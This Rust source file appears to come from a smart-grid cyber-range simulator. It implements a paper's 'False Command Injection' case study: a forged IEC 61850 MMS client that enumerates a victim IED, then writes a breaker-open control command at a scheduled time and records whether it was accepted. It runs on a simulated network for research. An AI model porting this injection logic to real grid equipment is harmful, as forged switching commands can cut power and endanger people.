//! False Command Injection (FCI): the paper's first case study.
//!
//! *"Assuming that the attacker has compromised one of the nodes in the
//! system and run malwares like CrashOverride to transmit fake IEC 61850
//! MMS commands … running an IEC 61850 MMS client on a node in the cyber
//! range to emit standard-compliant command messages."*
//!
//! [`FciAttackApp`] is that standard-compliant MMS client: from any host it
//! connects to a victim IED, optionally interrogates it, and issues a forged
//! control (`Oper`) write at a scheduled time.

use parking_lot::Mutex;
use sgcr_iec61850::{DataValue, MmsClient, MmsPdu, MmsRequest, MmsResponse, MMS_PORT};
use sgcr_net::{ConnId, HostCtx, Ipv4Addr, SimDuration, SocketApp};
use std::sync::Arc;

/// Outcome of the injection, observable by the experiment harness.
#[derive(Debug, Clone, Default)]
pub struct FciReport {
    /// Names discovered during the (optional) interrogation phase.
    pub discovered_items: Vec<String>,
    /// Whether the forged control was accepted by the victim.
    pub command_accepted: Option<bool>,
    /// Time (sim ms) the command response arrived.
    pub completed_at_ms: Option<u64>,
}

/// Shared handle to the attack's progress.
pub type FciHandle = Arc<Mutex<FciReport>>;

/// The forged command to inject.
#[derive(Debug, Clone)]
pub struct FciPlan {
    /// Victim IED address.
    pub victim: Ipv4Addr,
    /// Control item to write (`GIED1LD0/CSWI1$CO$Pos$Oper$ctlVal`).
    pub item: String,
    /// Forged value (`false` = open breaker).
    pub value: bool,
    /// When to fire, in simulation milliseconds.
    pub at_ms: u64,
    /// Whether to interrogate the server first (recon via getNameList).
    pub interrogate: bool,
}

const TOKEN_FIRE: u64 = 1;

/// The injection client application.
pub struct FciAttackApp {
    plan: FciPlan,
    client: MmsClient,
    conn: Option<ConnId>,
    /// The forged write's invoke id, once it is sent: an error under it
    /// refuses the command.
    write_invoke: Option<u32>,
    report: FciHandle,
}

impl FciAttackApp {
    /// Creates the attacker app and its observable report handle.
    pub fn new(plan: FciPlan) -> (FciAttackApp, FciHandle) {
        let report: FciHandle = Arc::default();
        (
            FciAttackApp {
                plan,
                client: MmsClient::new(),
                conn: None,
                write_invoke: None,
                report: report.clone(),
            },
            report,
        )
    }
}

impl SocketApp for FciAttackApp {
    fn on_start(&mut self, ctx: &mut HostCtx<'_>) {
        let conn = ctx.tcp_connect(self.plan.victim, MMS_PORT);
        self.conn = Some(conn);
    }

    fn on_tcp_connected(&mut self, ctx: &mut HostCtx<'_>, conn: ConnId) {
        let init = self.client.initiate();
        ctx.tcp_send(conn, &init);
        if self.plan.interrogate {
            let request = MmsRequest::GetNameList {
                object_class: 0,
                domain: None,
            };
            if let Some((_, wire)) = self.client.request(&request) {
                ctx.tcp_send(conn, &wire);
            }
        }
        // Schedule the strike.
        let now_ms = ctx.now().as_millis();
        let delay = self.plan.at_ms.saturating_sub(now_ms);
        ctx.set_timer(SimDuration::from_millis(delay), TOKEN_FIRE);
    }

    fn on_timer(&mut self, ctx: &mut HostCtx<'_>, token: u64) {
        if token != TOKEN_FIRE {
            return;
        }
        if let Some(conn) = self.conn {
            let request = MmsRequest::Write {
                items: vec![self.plan.item.clone()],
                values: vec![DataValue::Bool(self.plan.value)],
            };
            if let Some((invoke_id, wire)) = self.client.request(&request) {
                self.write_invoke = Some(invoke_id);
                ctx.tcp_send(conn, &wire);
            }
        }
    }

    fn on_tcp_data(&mut self, ctx: &mut HostCtx<'_>, _conn: ConnId, data: &[u8]) {
        for pdu in self.client.feed(data) {
            let accepted = match pdu {
                MmsPdu::ConfirmedResponse {
                    response: MmsResponse::GetNameList { identifiers, .. },
                    ..
                } => {
                    self.report.lock().discovered_items = identifiers;
                    continue;
                }
                MmsPdu::ConfirmedResponse {
                    response: MmsResponse::Write { results },
                    ..
                } => results.first().is_some_and(Result::is_ok),
                MmsPdu::ConfirmedError { invoke_id, .. }
                    if Some(invoke_id) == self.write_invoke =>
                {
                    false
                }
                _ => continue,
            };
            let mut report = self.report.lock();
            report.command_accepted = Some(accepted);
            report.completed_at_ms = Some(ctx.now().as_millis());
        }
    }
}
